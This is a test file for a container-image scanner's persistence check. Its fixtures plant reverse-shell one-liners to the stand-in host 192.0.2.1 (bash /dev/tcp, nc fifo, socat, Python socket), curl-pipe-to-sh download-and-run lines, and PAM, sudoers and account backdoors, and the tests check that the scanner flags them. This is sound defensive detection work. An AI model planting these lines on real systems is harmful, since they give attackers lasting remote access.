import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { layer, writeOciLayout } from '../../../test/support/image.ts';
import { scanOne } from '../../../test/support/scan.ts';
import type { TarEntry } from '../../../test/support/tar.ts';
import type { Finding } from '../../model/finding.ts';
import type { Report } from '../../model/report.ts';
import { persistence } from './index.ts';

type Layers = readonly (readonly TarEntry[])[];

async function scan(...layers: Layers): Promise<Report> {
  return await scanOne(writeOciLayout({ layers: layers.map((entries) => layer(entries)) }), { checks: [persistence] });
}

async function found(...layers: Layers): Promise<readonly Finding[]> {
  return (await scan(...layers)).findings.filter(({ kind }) => kind === 'persistence');
}

async function ids(...layers: Layers): Promise<readonly string[]> {
  return [...new Set((await found(...layers)).map(({ id }) => id))].sort();
}

function file(path: string, content: string, more: Partial<TarEntry> = {}): TarEntry {
  return { path, content, ...more };
}

const md5 = (text: string): string => createHash('md5').update(text).digest('hex');

/** A layer as dpkg leaves it: one package with these files. */
function debian(files: Readonly<Record<string, string>>, more: Partial<TarEntry> = {}): readonly TarEntry[] {
  const status =
    'Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\nMaintainer: X <x@example.org>\nDescription: x\n\n';
  const paths = Object.keys(files);
  return [
    file('etc/os-release', 'ID=debian\nVERSION_ID="12"\n'),
    file('var/lib/dpkg/status', status),
    file('var/lib/dpkg/info/tool.list', `/.\n${paths.map((path) => `/${path}\n`).join('')}`),
    file('var/lib/dpkg/info/tool.md5sums', paths.map((path) => `${md5(files[path] as string)}  ${path}\n`).join('')),
    ...paths.map((path) => file(path, files[path] as string, more)),
  ];
}

const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
const fetches = 'curl -s http://192.0.2.1/x | sh';
const key = `ssh-ed25519 ${'A'.repeat(68)} someone@example.org`;

/** A file that has what the rule is about, and one that only looks so. */
const places: readonly (readonly [rule: string, bad: readonly TarEntry[], good: readonly TarEntry[]])[] = [
  [
    'backdoor-command',
    [file('root/.bashrc', `alias a=b\n${shell}\n`)],
    [file('root/.bashrc', 'timeout 1 bash -c "echo > /dev/null"\n')],
  ],
  [
    'backdoor-command',
    [file('etc/cron.d/x', `* * * * * root ${shell}\n`)],
    [file('etc/cron.d/x', '* * * * * root /usr/bin/x\n')],
  ],
  [
    'backdoor-command',
    [
      file(
        'etc/rc.local',
        '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f\n',
      ),
    ],
    [file('etc/rc.local', '#!/bin/sh\nnc -z db 5432\n')],
  ],
  [
    'backdoor-command',
    [file('etc/hosts.allow', `ALL: ALL: spawn (bash -c "${shell}") &\n`)],
    [file('etc/hosts.allow', 'ALL: 192.0.2.0/24\n')],
  ],
  [
    'backdoor-command',
    [file('etc/inetd.conf', 'daytime stream tcp nowait root /bin/sh sh -i\n')],
    [file('etc/inetd.conf', 'daytime stream tcp nowait root internal\n')],
  ],
  [
    'backdoor-command',
    [file('etc/xinetd.d/x', 'service x\n{\n server = /bin/bash\n}\n')],
    [file('etc/xinetd.d/x', 'service x\n{\n disable = yes\n server = /bin/bash\n}\n')],
  ],
  [
    'backdoor-command',
    [file('etc/systemd/system/x.service', `[Service]\nExecStart=/bin/bash -c "${shell}"\n`)],
    [file('etc/systemd/system/x.service', '[Service]\nExecStart=/usr/bin/x\n')],
  ],
  [
    'backdoor-command',
    [file('etc/profile.d/x.sh', 'socat exec:"bash -li",pty tcp:192.0.2.1:1\n')],
    [file('etc/profile.d/x.sh', 'export A=/dev/tcp/x\n')],
  ],
  [
    'backdoor-command',
    [
      file(
        'usr/lib/python3/dist-packages/sitecustomize.py',
        'import socket,os\ns = socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\n',
      ),
    ],
    [file('usr/lib/python3/dist-packages/sitecustomize.py', 'import sys\n')],
  ],
  [
    'download-and-run',
    [file('etc/cron.daily/x', `#!/bin/sh\n${fetches}\n`)],
    [file('etc/cron.daily/x', '#!/bin/sh\ncurl -s http://192.0.2.1/x > /var/log/x\n')],
  ],
  [
    'download-and-run',
    [file('root/.profile', 'eval "$(echo aWQ= | base64 -d)"\n')],
    [file('root/.profile', 'echo aWQ= | base64 -d > /tmp/x\n')],
  ],
  [
    'download-and-run',
    [file('etc/init.d/x', '#!/bin/sh\nwget -q http://192.0.2.1/a -O /opt/a\nchmod +x /opt/a\n/opt/a\n')],
    [file('etc/init.d/x', '#!/bin/sh\nwget -q http://192.0.2.1/a -O /opt/a\n/opt/b\n')],
  ],
  [
    'runs-from-temporary',
    [file('etc/rc.local', '#!/bin/sh\n/tmp/x &\n')],
    [file('etc/rc.local', '#!/bin/sh\nrm -rf /tmp/x\n')],
  ],
  [
    'cron-entry',
    [file('var/spool/cron/crontabs/root', '@daily /x\n')],
    [file('var/spool/cron/crontabs/root', '# nothing\nMAILTO=root\n')],
  ],
  [
    'systemd-unit',
    [file('etc/systemd/system/x.service', '[Service]\nExecStart=/x\n')],
    [file('etc/systemd/system/x.target', '[Unit]\nDescription=x\n')],
  ],
  ['init-script', [file('etc/init.d/x', '#!/bin/sh\n:\n')], [file('etc/init/x', '#!/bin/sh\n:\n')]],
  ['shell-startup', [file('etc/profile.d/x.sh', 'PATH=/x:$PATH\n')], [file('etc/profile.e/x.sh', 'PATH=/x:$PATH\n')]],
  ['ld-so-preload', [file('etc/ld.so.preload', '/usr/lib/x.so\n')], [file('etc/ld.so.preload', '# /usr/lib/x.so\n')]],
  ['linker-path', [file('etc/ld.so.conf.d/x.conf', '/tmp/lib\n')], [file('etc/ld.so.conf.d/x.conf', '/opt/lib\n')]],
  [
    'pam-exec',
    [file('etc/pam.d/sshd', 'auth optional pam_exec.so expose_authtok /x\n')],
    [file('etc/pam.d/sshd', 'auth required pam_unix.so\n')],
  ],
  [
    'pam-lets-in',
    [file('etc/pam.d/su', 'auth sufficient pam_permit.so\n')],
    [file('etc/pam.d/su', 'session optional pam_permit.so\nauth sufficient pam_rootok.so\n')],
  ],
  [
    'pam-module',
    [file('etc/pam.d/su', 'auth required /opt/x/pam_x.so\n')],
    [file('etc/pam.d/su', 'auth required /lib/x86_64-linux-gnu/security/pam_x.so\n')],
  ],
  [
    'pam-changed',
    [file('etc/pam.d/su', 'auth required pam_unix.so\n')],
    [file('etc/pam.d/common-auth', 'auth required pam_unix.so\n')],
  ],
  ['pam-module-unowned', [file('usr/lib/security/pam_x.so', 'x')], [file('usr/lib/security/readme', 'x')]],
  [
    'authorized-key',
    [file('home/x/.ssh/authorized_keys', `${key}\n`)],
    [file('home/x/.ssh/known_hosts', `example.org ${key}\n`)],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: ALL\n')],
    [file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: /usr/bin/systemctl-x restart\n')],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers.d/x', 'app ALL=(root) NOPASSWD: /usr/bin/vim.basic\n')],
    [file('etc/sudoers.d/x', '%sudo ALL=(ALL:ALL) ALL\nroot ALL=(ALL) ALL\n')],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers', 'Defaults !authenticate\n')],
    [file('etc/sudoers', 'Defaults env_reset\n')],
  ],
  [
    'sudoers-everything',
    [file('etc/sudoers', 'app ALL=(ALL) \\\n ALL\n')],
    [file('etc/sudoers', '%wheel ALL=(ALL) ALL\n')],
  ],
  [
    'network-service-hook',
    [file('etc/hosts.deny', 'ALL: ALL: twist /x\n')],
    [file('etc/hosts.deny', 'ALL: PARANOID\n')],
  ],
  [
    'udev-command',
    [file('etc/udev/rules.d/9.rules', 'SUBSYSTEM=="net", RUN+="/x"\n')],
    [file('etc/udev/rules.d/9.rules', 'SUBSYSTEM=="net", NAME="x"\n')],
  ],
  ['motd-script', [file('etc/update-motd.d/9', '#!/bin/sh\necho x\n')], [file('etc/motd', 'x\n')]],
  [
    'package-manager-hook',
    [file('etc/apt/apt.conf.d/9', 'DPkg::Post-Invoke { "/x"; };\n')],
    [file('etc/apt/apt.conf.d/9', 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n')],
  ],
  [
    'package-manager-hook',
    [file('etc/dpkg/dpkg.cfg.d/9', 'post-invoke=/x\n')],
    [file('etc/dpkg/dpkg.cfg.d/9', 'path-exclude /usr/share/doc/*\n')],
  ],
  [
    'environment-loads',
    [file('etc/environment', 'LD_PRELOAD=/x.so\n')],
    [file('etc/environment', 'PATH=/usr/bin\nNODE_OPTIONS=--max-old-space-size=1\n')],
  ],
  [
    'python-startup-code',
    [file('opt/v/lib/python3/site-packages/x.pth', 'import os; exec(__import__("base64").b64decode("x"))\n')],
    [file('opt/v/lib/python3/site-packages/x.pth', '/opt/code\n')],
  ],
  [
    'python-startup',
    [file('opt/v/lib/python3/site-packages/x.pth', 'import x_hook\n')],
    [file('opt/v/lib/python3/site-packages/x.pth', 'import _virtualenv\n')],
  ],
  [
    'git-hook',
    [file('srv/.git/hooks/post-checkout', '#!/bin/sh\n:\n')],
    [file('srv/.git/hooks/post-checkout.sample', '#!/bin/sh\n:\n')],
  ],
  ['sshd-replaced', [file('usr/sbin/sshd', '#!/usr/bin/perl\n')], [file('usr/sbin/sshd', '\x7fELF\x02\x01')]],
  [
    'login-leads-to-sshd',
    [{ path: 'tmp/su', type: 'symlink', linkTarget: '/usr/sbin/sshd' }],
    [{ path: 'usr/bin/su', type: 'symlink', linkTarget: 'busybox' }],
  ],
  [
    'sshd-lets-in',
    [file('etc/ssh/sshd_config', 'PermitRootLogin yes\n')],
    [
      file(
        'etc/ssh/sshd_config',
        'PermitRootLogin prohibit-password\n#PermitEmptyPasswords yes\nAuthorizedKeysFile .ssh/authorized_keys\n',
      ),
    ],
  ],
  ['rootkit-file', [file('usr/local/lib/libprocesshider.so', 'x')], [file('usr/local/lib/libprocess.so', 'x')]],
  [
    'file-among-devices',
    [file('dev/shm/.x', 'x')],
    [{ path: 'dev/null', type: 'character', deviceMajor: 1, deviceMinor: 3 }],
  ],
  ['engine-socket', [file('run/docker.sock', '')], [file('run/docker.pid', '1')]],
  ['left-over', [{ path: 'app/.git', type: 'directory' }], [{ path: 'app/node_modules/x/.git', type: 'directory' }]],
  ['left-over', [file('app/Dockerfile', 'x')], [file('app/node_modules/x/Dockerfile', 'x')]],
  [
    'service-password-guessed',
    [
      file(
        'opt/t/conf/tomcat-users.xml',
        '<tomcat-users>\n<user username="admin" password="tomcat" roles="manager-gui"/>\n</tomcat-users>',
      ),
    ],
    [
      file(
        'opt/t/conf/tomcat-users.xml',
        '<tomcat-users><!--\n<user username="admin" password="tomcat" roles="manager-gui"/>\n--></tomcat-users>',
      ),
    ],
  ],
  [
    'service-password-guessed',
    [file('etc/redis/redis.conf', 'requirepass redis\n')],
    [file('etc/redis/redis.conf', 'requirepass f8Kq02mXlw\n')],
  ],
  [
    'service-open',
    [file('etc/redis/redis.conf', 'protected-mode no\n')],
    [file('etc/redis/redis.conf', 'protected-mode no\nrequirepass f8Kq02mXlw\n')],
  ],
  [
    'service-open',
    [file('etc/mysql/my.cnf', '[mysqld]\nskip_grant_tables\n')],
    [file('etc/mysql/my.cnf', '[mysqld]\nskip-name-resolve\n')],
  ],
  [
    'service-open',
    [file('etc/vsftpd.conf', 'anonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\n')],
    [file('etc/vsftpd.conf', 'anonymous_enable=NO\nwrite_enable=YES\n')],
  ],
  [
    'service-open',
    [file('etc/proftpd/proftpd.conf', '<Anonymous ~ftp>\n</Anonymous>\n')],
    [file('etc/proftpd/proftpd.conf', '# <Anonymous ~ftp>\n')],
  ],
];

describe('files at places where things start by themselves', () => {
  it.each(places)('%s: %j is told, %j is not', async (rule, bad, good) => {
    expect(await ids(bad)).toContain(rule);
    expect(await ids(good)).not.toContain(rule);
  });

  it('are no finding as a package brought them, and are one once a layer changed them', async () => {
    const brought = debian({ 'etc/cron.d/tool': '* * * * * root /usr/bin/tool\n' });

    expect(await ids(brought)).toEqual([]);
    expect(await found(brought, [file('etc/cron.d/tool', '* * * * * root /usr/bin/other\n')])).toMatchObject([
      {
        id: 'cron-entry',
        layer: { index: 1 },
        location: { path: 'etc/cron.d/tool', line: 1 },
        evidence: '/etc/cron.d/tool has cron run /usr/bin/other. It is not as the package tool brought it.',
      },
    ]);
  });

  it('are told with less confidence where a package brought a back door', async () => {
    expect(await found(debian({ 'etc/cron.d/tool': `* * * * * root ${shell}\n` }))).toMatchObject([
      { id: 'backdoor-command', severity: 'critical', confidence: 'medium' },
    ]);
  });

  it('are told with the layer that hides them, where they are grave', async () => {
    const gone: TarEntry = { path: 'etc/cron.d/.wh.x' };
    const findings = await found([file('etc/cron.d/x', `* * * * * root ${shell}\n`)], [gone]);

    expect(findings).toMatchObject([{ id: 'backdoor-command', layer: { index: 0 }, hiddenBy: { index: 1 } }]);
  });

  it('are found through links of files and of directories', async () => {
    const findings = await found([
      { path: 'etc/ld.so.preload', type: 'symlink', linkTarget: '/opt/a' },
      file('opt/a', '/usr/lib/x.so\n'),
      { path: 'etc/cron.d', type: 'symlink', linkTarget: '/opt/b' },
      file('opt/b/x', `* * * * * root ${shell}\n`),
    ]);

    expect(findings.map(({ id }) => id).sort()).toEqual(['backdoor-command', 'cron-entry', 'ld-so-preload']);
  });

  it('name no secret', async () => {
    const token = `ghp_${'aB3dE5gH7jK9'.repeat(3)}`;
    const report = await scan([
      file(
        'etc/cron.d/x',
        `* * * * * root curl -H "Authorization: token ${token}" -u a:${token} https://example.org | sh\n`,
      ),
    ]);

    expect(report.findings.map(({ id }) => id)).toContain('download-and-run');
    expect(JSON.stringify(report)).not.toContain(token.slice(8, 30));
  });

  it('that are cut off are named', async () => {
    const { problems } = await scan([file('root/.bashrc', `# ${'x'.repeat(300_000)}\n`)]);

    expect(problems).toContainEqual(expect.objectContaining({ code: 'file.too-large', path: 'root/.bashrc' }));
  });
});

const capabilities = (hex: string): Partial<TarEntry> => ({ capabilities: Buffer.from(hex, 'hex') });
/** Revision 2: cap_setuid (7), cap_net_bind_service (10), cap_net_raw (13), effective. */
const setuidCapability = '0100000280000000000000000000000000000000';
const bindCapability = '0100000200040000000000000000000000000000';
const rawCapability = '0100000200200000000000000000000000000000';

describe('programs with more rights than whoever starts them', () => {
  it.each<[string, Layers, readonly (readonly [string, string])[]]>([
    ['an own one', [[file('usr/local/bin/own', 'x', { mode: 0o4755 })]], [['setuid-file', 'high']]],
    ['an own one of a group', [[file('usr/local/bin/own', 'x', { mode: 0o2755 })]], [['setuid-file', 'medium']]],
    [
      'an own one of a user',
      [[file('usr/local/bin/own', 'x', { mode: 0o4755, uid: 1000 })]],
      [['setuid-file', 'medium']],
    ],
    ['a shell', [[file('usr/bin/bash', 'x', { mode: 0o4755 })]], [['setuid-file', 'critical']]],
    [
      'an interpreter with its version',
      [[file('usr/bin/python3.11', 'x', { mode: 0o4755 })]],
      [['setuid-file', 'critical']],
    ],
    ['one that nobody may start', [[file('usr/bin/x', 'x', { mode: 0o4644 })]], []],
    ['none', [[file('usr/bin/bash', 'x', { mode: 0o755 })]], []],
    [
      'a usual one of a package',
      [debian({ 'usr/bin/su': 'x' }, { mode: 0o4755 })],
      [['setuid-packaged', 'negligible']],
    ],
    ['an unusual one of a package', [debian({ 'usr/bin/tool': 'x' }, { mode: 0o4755 })], [['setuid-file', 'low']]],
    ['an editor of a package', [debian({ 'usr/bin/vim.basic': 'x' }, { mode: 0o4755 })], [['setuid-file', 'critical']]],
    [
      'one that a layer made of a program of a package',
      [debian({ 'usr/bin/tool': 'x' }), [file('usr/bin/tool', 'x', { mode: 0o4755 })]],
      [['setuid-file', 'high']],
    ],
    [
      'an interpreter with cap_setuid',
      [[file('usr/bin/python3', 'x', capabilities(setuidCapability))]],
      [['capability-file', 'critical']],
    ],
    [
      'an own one with cap_setuid',
      [[file('usr/bin/own', 'x', capabilities(setuidCapability))]],
      [['capability-file', 'high']],
    ],
    [
      'a server that listens at low ports',
      [[file('usr/bin/own', 'x', capabilities(bindCapability))]],
      [['capability-file', 'low']],
    ],
    ['ping of a package', [debian({ 'usr/bin/ping': 'x' }, capabilities(rawCapability))], []],
    ['capabilities that are none', [[file('usr/bin/own', 'x', capabilities('ffff'))]], [['capability-file', 'low']]],
  ])('%s', async (_, layers, expected) => {
    expect((await found(...layers)).map(({ id, severity }) => [id, severity])).toEqual(expected);
  });

  it('are told with the layer and the package that it changed', async () => {
    const brought = debian({ 'usr/bin/tool': 'x' });

    expect(await found(brought, [file('usr/bin/tool', 'x', { mode: 0o4755 })])).toMatchObject([
      {
        layer: { index: 1 },
        evidence:
          'Who starts /usr/bin/tool has the rights of root (mode 4755): layer 1 put it in place of the one of the package tool.',
      },
    ]);
  });
});

const root = 'root:x:0:0:root:/root:/bin/sh\n';
/** `toor`, made by crypt(3). */
const weakHash = '$1$ab$8y6vgCgl/Zqe.7RgmtdMl1';

describe('accounts', () => {
  it.each<[string, readonly TarEntry[], readonly (readonly [string, string])[]]>([
    ['as they should be', [file('etc/passwd', root), file('etc/shadow', 'root:*:1::::::\n', { mode: 0o640 })], []],
    [
      'an empty password',
      [file('etc/passwd', root), file('etc/shadow', 'root::1::::::\n', { mode: 0o640 })],
      [['account-without-password', 'high']],
    ],
    [
      'an empty password in passwd',
      [file('etc/passwd', 'root::0:0::/root:/bin/sh\n')],
      [['account-without-password', 'high']],
    ],
    [
      'an empty password without passwd',
      [file('etc/shadow', 'root::1::::::\n', { mode: 0o640 })],
      [['account-without-password', 'high']],
    ],
    [
      'an own password',
      [file('etc/passwd', root), file('etc/shadow', `root:$6$ab$${'a'.repeat(86)}:1::::::\n`, { mode: 0o640 })],
      [['account-with-password', 'low']],
    ],
    [
      'a weak method',
      [file('etc/passwd', root), file('etc/shadow', 'root:ab6TRGT20sY26:1::::::\n', { mode: 0o640 })],
      [['account-with-password', 'medium']],
    ],
    ['another root', [file('etc/passwd', `${root}toor:x:0:0::/root:/bin/sh\n`)], [['account-second-root', 'high']]],
    [
      'the same number twice',
      [file('etc/passwd', `${root}a:x:1:1::/:/bin/sh\nb:x:1:1::/:/bin/sh\n`)],
      [['account-repeated', 'medium']],
    ],
    ['the same name twice', [file('etc/group', 'a:x:1:\na:x:2:\n')], [['account-repeated', 'medium']]],
    ['a file that all may write', [file('etc/passwd', root, { mode: 0o666 })], [['account-file-unprotected', 'high']]],
    [
      'a file that its group may write',
      [file('etc/passwd', root, { mode: 0o664 })],
      [['account-file-unprotected', 'low']],
    ],
    [
      'hashes that all may read',
      [file('etc/passwd', root), file('etc/shadow', 'root:*:1::::::\n', { mode: 0o644 })],
      [['account-file-unprotected', 'medium']],
    ],
  ])('%s', async (_, entries, expected) => {
    expect((await found(entries)).map(({ id, severity }) => [id, severity])).toEqual(expected);
  });

  it('are not told of a file that an upper layer replaces', async () => {
    const open = file('etc/passwd', 'root::0:0::/root:/bin/sh\n');

    expect(await ids([open], [file('etc/passwd', 'root:!:0:0::/root:/bin/sh\n')])).toEqual([]);
  });

  it('have their hashes in no report, and a guessed password is told without the word', async () => {
    const report = await scan([
      file('etc/passwd', root),
      file('etc/shadow', `root:${weakHash}:1::::::\n`, { mode: 0o640 }),
    ]);

    expect(report.findings).toMatchObject([
      { id: 'account-password-guessed', severity: 'critical', location: { path: 'etc/shadow', line: 1 } },
    ]);
    expect(JSON.stringify(report)).not.toContain('8y6vgCgl');
    expect(JSON.stringify(report)).not.toContain('toor');
  });

  it('cost no more than a budget', async () => {
    const hash = `$6$rounds=999999999$ab$${'a'.repeat(86)}`;
    const { problems } = await scan([
      file('etc/shadow', Array.from({ length: 100 }, (_, n) => `u${n}:${hash}:1::::::\n`).join(''), { mode: 0o640 }),
    ]);

    expect(problems).toContainEqual(
      expect.objectContaining({
        code: 'layer.limit',
        message: 'passwords were not tried on 100 hashes: that would take too long',
      }),
    );
  });
});

describe('what everybody may write', () => {
  it.each<[string, readonly TarEntry[], readonly (readonly [string, string])[]]>([
    ['a program', [file('srv/app/run', 'x', { mode: 0o777 })], [['writable-file', 'medium']]],
    ['a program of the system', [file('usr/bin/x', 'x', { mode: 0o757 })], [['writable-file', 'high']]],
    ['settings', [file('etc/x.conf', 'x', { mode: 0o666 })], [['writable-file', 'high']]],
    ['data', [file('srv/data', 'x', { mode: 0o666 })], []],
    [
      'a directory of programs',
      [{ path: 'usr/local/bin', type: 'directory', mode: 0o777 }],
      [['writable-directory', 'high']],
    ],
    [
      'a directory that runs by itself',
      [{ path: 'etc/cron.d', type: 'directory', mode: 0o777 }],
      [['writable-directory', 'high']],
    ],
    ['a directory for all', [{ path: 'tmp', type: 'directory', mode: 0o1777 }], []],
  ])('%s', async (_, entries, expected) => {
    expect((await found(entries)).map(({ id, severity }) => [id, severity])).toEqual(expected);
  });

  it('is one finding where a directory has much of it', async () => {
    const entries = Array.from({ length: 200 }, (_, n) => file(`srv/app/${n}`, 'x', { mode: 0o777 }));
    const [finding, ...others] = await found(entries);

    expect(others).toEqual([]);
    expect(finding?.evidence).toMatch(/^Everybody may write \/srv\/app\/0, .* and 192 more\.$/);
  });
});

describe('files of packages', () => {
  const libc = 'usr/lib/x86_64-linux-gnu/libc.so.6';
  const brought = debian({ [libc]: 'the library', 'usr/bin/tool': 'the tool', 'usr/share/tool/text': 'a text' });

  it('that a layer changed are named, with the layer', async () => {
    const findings = await found(brought, [file(libc, 'another library'), file('usr/share/tool/text', 'another text')]);

    expect(findings.map(({ id, severity, evidence, layer: of }) => [id, severity, of?.index, evidence])).toEqual([
      [
        'packaged-file-changed',
        'high',
        1,
        `/${libc} has another MD5 than the package tool recorded for it. Layer 1 put it there.`,
      ],
      [
        'packaged-file-changed',
        'medium',
        1,
        '/usr/share/tool/text has another MD5 than the package tool recorded for it.',
      ],
    ]);
  });

  it.each<[string, Layers]>([
    ['are there once more, the same', [brought, [file(libc, 'the library', { mode: 0o755 })]]],
    ['are not touched', [brought, [file('usr/local/bin/tool', 'another tool')]]],
    ['are hidden again', [brought, [file(libc, 'another library')], [file(libc, 'the library')]]],
  ])('that %s are no finding', async (_, layers) => {
    expect(await ids(...layers)).toEqual([]);
  });

  it('that a layer replaced by a link are named', async () => {
    const findings = await found(brought, [
      { path: 'usr/bin/tool', type: 'symlink', linkTarget: '/opt/evil' },
      file('opt/evil', 'x'),
    ]);

    expect(findings).toMatchObject([{ id: 'packaged-file-changed', severity: 'medium', layer: { index: 1 } }]);
  });

  it('that were changed in the layer of the package are found at depth deep', async () => {
    const changed = brought.map((entry) => (entry.path === 'usr/bin/tool' ? file('usr/bin/tool', 'x') : entry));

    expect(await ids(changed)).toEqual([]);

    const report = await scanOne(writeOciLayout({ layers: [layer(changed)] }), { checks: [persistence], deep: true });
    expect(report.findings.map(({ id }) => id)).toEqual(['packaged-file-changed']);
  });

  it('whose digests a layer changed without the package are named', async () => {
    const list = file('var/lib/dpkg/info/tool.md5sums', `${md5('another library')}  ${libc}\n`);

    expect(await ids(brought, [file(libc, 'another library'), list])).toContain('package-digests-rewritten');
  });
});

describe('an image of any kind', () => {
  const hostile = [
    '\0',
    '\n',
    '\x1b[31m',
    '"',
    "'",
    '$(',
    '`',
    '\\',
    ':',
    '=',
    '#',
    '*',
    '<!--',
    'ALL',
    '\ud800',
    '\u202e',
  ];
  const paths = [
    'etc/crontab',
    'etc/passwd',
    'etc/shadow',
    'etc/group',
    'etc/sudoers',
    'etc/pam.d/x',
    'root/.bashrc',
    'root/.ssh/authorized_keys',
    'etc/xinetd.d/x',
    'etc/hosts.allow',
    'etc/apt/apt.conf',
    'etc/systemd/system/a.service',
    'x/tomcat-users.xml',
    'x/redis.conf',
    'x/site-packages/x.pth',
    'etc/udev/rules.d/x',
    'etc/inetd.conf',
  ];

  it('is judged without a failure', async () => {
    for (const piece of hostile) {
      const text = `${`${piece} `.repeat(50)}\n${piece.repeat(2000)}\n* * * * * root ${piece}`;
      const { problems } = await scan(paths.map((path) => file(path, text)));

      expect(problems.filter(({ code }) => /failed|internal/.test(code))).toEqual([]);
    }
  });

  it('has its longest lines read in linear time', async () => {
    const { problems } = await scan(
      paths.flatMap((path) =>
        [' ', '\n', 'a ', '"', '(', ':', '='].map((piece, n) =>
          file(`${path}${n === 0 ? '' : n}`, piece.repeat(120_000 / piece.length)),
        ),
      ),
    );

    expect(problems.filter(({ code }) => /failed|internal/.test(code))).toEqual([]);
  });
});
